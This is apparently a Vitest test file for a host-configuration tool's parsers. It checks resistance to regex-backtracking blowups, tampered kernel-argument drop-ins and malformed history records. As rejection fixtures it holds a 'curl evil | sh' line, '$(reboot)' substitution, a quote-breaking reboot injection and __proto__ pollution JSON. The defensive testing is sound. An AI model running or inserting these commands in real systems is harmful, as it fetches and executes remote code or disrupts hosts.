import { describe, expect, it } from 'vitest';
import { dropInText, parseDropIn } from '../../src/domain/drop-in.ts';
import { parseBootLoader } from '../../src/facts/boot-loader.ts';
import { parseFacts } from '../../src/facts/parse-facts.ts';
import { parseRecord } from '../../src/facts/record.ts';
import type { Snapshot } from '../../src/facts/snapshot.ts';

const holding = (files: Readonly<Record<string, string>>): Snapshot => ({
  files: new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)])),
  links: new Map(),
  dirs: new Map(),
  queries: new Map(),
});
const MIB = 1024 * 1024;

/** Files on which a pattern that backtracks takes minutes to days; read whole, they take milliseconds. */
const ENDLESS: readonly [string, Readonly<Record<string, string>>][] = [
  ['a grub.cfg of newlines', { '/boot/grub/grub.cfg': '\n'.repeat(MIB), '/etc/default/grub': '' }],
  [
    'a grub.cfg of opened quotes',
    { '/boot/grub/grub.cfg': 'set default="'.repeat(MIB / 13), '/etc/default/grub': '' },
  ],
  ['a /proc/meminfo of digits', { '/proc/meminfo': '1'.repeat(8 * MIB) }],
  ['a /proc/meminfo of blanks', { '/proc/meminfo': `MemTotal:${' '.repeat(8 * MIB)}` }],
  ['a modalias of its own beginning', { '/sys/devices/system/cpu/modalias': 'ven'.repeat(MIB) }],
  ['a lease of equals signs', { '/var/lib/vfleet/lease': '='.repeat(MIB) }],
  ['an os-release of quotes', { '/etc/os-release': `PRETTY_NAME=${'"'.repeat(MIB)}` }],
];

describe('facts of a host that wants to keep its reader busy', () => {
  it.each(ENDLESS)('are read in time from %s', (_what, files) => {
    const began = performance.now();
    const facts = parseFacts(holding(files));
    expect(facts.memTotalKiB).toBe(0);
    expect(performance.now() - began).toBeLessThan(5_000);
  });

  it('say of a kernel line that no kernel reads that it is not driven', () => {
    const menu = `menuentry 'x' {\nlinux /vmlinuz ${'x'.repeat(40_000)}\n}\n`;
    const loader = parseBootLoader(
      holding({ '/boot/grub/grub.cfg': menu, '/etc/default/grub': '' }),
    );
    expect(loader).toMatchObject({
      supported: false,
      reason: expect.stringMatching(/40000/) as string,
    });
  });
});

describe('a drop-in of ours that somebody else has written to', () => {
  const ours = dropInText({ add: ['iommu=pt'], drop: ['"intel_iommu=off"', 'quiet'] });

  it('is ours as long as nothing was changed', () => {
    expect(parseDropIn(ours)).toEqual({ add: ['iommu=pt'], drop: ['"intel_iommu=off"', 'quiet'] });
  });

  it.each([
    ['shell after it', `${ours}curl evil | sh\n`],
    ['shell for an added argument', dropInText({ add: ['$(reboot)'], drop: [] })],
    ['a quote in a dropped argument', dropInText({ add: [], drop: ["x') ;; *) reboot ;; ('"] })],
    ['a blank in an argument', dropInText({ add: ['a b'], drop: [] })],
    ['an empty argument', dropInText({ add: [''], drop: [] })],
    ['a comment that the shell part does not follow', ours.replace('# vfleet-add: iommu=pt\n', '')],
    ['more than vfleet ever writes', dropInText({ add: ['x'.repeat(MIB)], drop: [] })],
  ])('is not taken for ours with %s', (_what, text) => {
    expect(parseDropIn(text)).toBeUndefined();
  });
});

describe('a record that somebody else has written', () => {
  const change = {
    kind: 'cmdline',
    loader: 'grub-debian',
    add: ['iommu=pt'],
    drop: [],
    before: ['ro'],
    after: ['ro', 'iommu=pt'],
    dropIn: { before: null, after: 'x' },
    createsFolder: false,
  };
  const run = { rollout: 'a#1', who: 'ops', since: '2026-11-22T17:00:00Z', changes: [change] };
  const record = (value: unknown) => parseRecord(JSON.stringify({ version: 1, runs: value }));

  it('is read when it is as vfleet writes it', () => {
    expect(record([run, { ...run, outcome: 'done' }])?.runs).toHaveLength(2);
  });

  it.each<[string, unknown]>([
    ['no list of runs', {}],
    ['a run that is null', [null]],
    ['a run without changes', [{ ...run, changes: undefined }]],
    ['a rollout that is no text', [{ ...run, rollout: { toString: 'x' } }]],
    ['a change of another kind', [{ ...run, changes: [{ ...change, kind: 'sysfs' }] }]],
    ['a change without its lines', [{ ...run, changes: [{ ...change, after: 'ro' }] }]],
    ['an argument that is no text', [{ ...run, changes: [{ ...change, add: [1] }] }]],
    ['a drop-in that is no text', [{ ...run, changes: [{ ...change, dropIn: null }] }]],
    [
      'changes too large for a history',
      [{ ...run, changes: [{ ...change, before: ['x'.repeat(MIB)] }] }],
    ],
  ])('is not read with %s', (_what, runs) => {
    expect(record(runs)).toBeUndefined();
  });

  it('does not reach the prototype of anything', () => {
    const text =
      '{"version":1,"runs":[],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
    expect(parseRecord(text)?.runs).toEqual([]);
    expect({}).not.toHaveProperty('polluted');
  });
});
